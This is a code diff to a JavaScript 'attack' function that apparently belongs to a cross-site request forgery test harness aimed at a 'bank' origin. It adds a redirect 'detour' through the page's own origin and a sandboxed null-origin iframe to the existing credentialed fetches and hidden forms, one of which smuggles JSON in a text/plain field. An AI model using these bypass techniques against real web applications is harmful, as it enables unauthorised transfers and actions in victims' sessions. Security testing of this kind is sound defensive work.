@@ -37,14 +37,14 @@ async function attack({ bank, account, payee, token, endsSessions, wait }) {
         promise, new Promise((resolve) => setTimeout(resolve, wait)),
     ]);
 
-    async function byFetch(method, path, body, type, options) {
+    async function byFetch(method, path, body, type, options, url = bank + path) {
         tries += 1;
         const headers = { ...(type && body ? { "content-type": type } : {}), ...options.headers };
         // A string has a type of its own; bytes have none.
         const bytes = body && (type ? JSON.stringify(body)
             : new TextEncoder().encode(JSON.stringify(body)));
         try {
-            const answer = await fetch(bank + path, { ...options, method, headers, body: bytes });
+            const answer = await fetch(url, { ...options, method, headers, body: bytes });
             saw(`fetch ${options.mode}`, path, answer.status, await answer.text());
         } catch { /* Nothing to see. */ }
     }
@@ -64,17 +64,22 @@ async function attack({ bank, account, payee, token, endsSessions, wait }) {
         }));
     }
 
+    // The page's own site sends the browser on, with the same method and body.
+    const detour = (path) => `${location.origin}/detour?to=${encodeURIComponent(bank + path)}`;
+
     // A form can send JSON, too: of text/plain, the name, an equals sign and the value.
-    function byForm(method, path, body, enctype) {
+    function fieldsOf(body, enctype) {
+        return enctype === "text/plain"
+            ? [[JSON.stringify(body).slice(0, -1) + ',"ignored":"', '"}']] : Object.entries(body);
+    }
+
+    function byForm(path, body, enctype, action = bank + path) {
         tries += 1;
         const frame = document.createElement("iframe");
         frame.name = id();
         const form = document.createElement("form");
-        Object.assign(form, { action: bank + path, method, enctype, target: frame.name });
-        const text = JSON.stringify(body ?? {});
-        const fields = enctype === "text/plain"
-            ? [[text.slice(0, -1) + ',"ignored":"', '"}']] : Object.entries(body ?? {});
-        for (const [name, value] of fields) {
+        Object.assign(form, { action, method: "POST", enctype, target: frame.name });
+        for (const [name, value] of fieldsOf(body, enctype)) {
             const input = document.createElement("input");
             Object.assign(input, { type: "hidden", name, value });
             form.append(input);
@@ -86,6 +91,23 @@ async function attack({ bank, account, payee, token, endsSessions, wait }) {
                 resolve();
             };
             form.submit();
+        }));
+    }
+
+    // Of a frame that is of no site at all.
+    function bySandbox(path, body, enctype) {
+        tries += 1;
+        const quoted = (text) => String(text).replaceAll("&", "&amp;").replaceAll('"', "&quot;");
+        const inputs = fieldsOf(body, enctype).map(([name, value]) =>
+            `<input type="hidden" name="${quoted(name)}" value="${quoted(value)}">`);
+        const frame = document.createElement("iframe");
+        frame.sandbox = "allow-forms allow-scripts";
+        frame.srcdoc = `<form method="POST" enctype="${enctype}" action="${bank + path}">`
+            + `${inputs.join("")}</form><script>document.forms[0].submit()<\/script>`;
+        let loads = 0;
+        return within(new Promise((resolve) => {
+            frame.onload = () => { if (++loads === 2) resolve(); };
+            document.body.append(frame);
         }));
     }
 
@@ -141,6 +163,7 @@ async function attack({ bank, account, payee, token, endsSessions, wait }) {
             for (const type of bodyTypes) {
                 for (const [method, path, body] of writes()) {
                     all.push(byFetch(method, path, body, type, { mode, credentials }));
+                    all.push(byFetch(method, path, body, type, { mode, credentials }, detour(path)));
                 }
             }
             for (const path of reads) all.push(byFetch("GET", path, null, null, { mode, credentials }));
@@ -170,7 +193,9 @@ async function attack({ bank, account, payee, token, endsSessions, wait }) {
     }
     for (const enctype of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"]) {
         for (const [method, path, body] of writes()) {
-            if (method === "POST") all.push(byForm("POST", path, body, enctype));
+            if (method !== "POST") continue;
+            all.push(byForm(path, body, enctype), byForm(path, body, enctype, detour(path)));
+            all.push(bySandbox(path, body, enctype));
         }
     }
     await Promise.all(all);
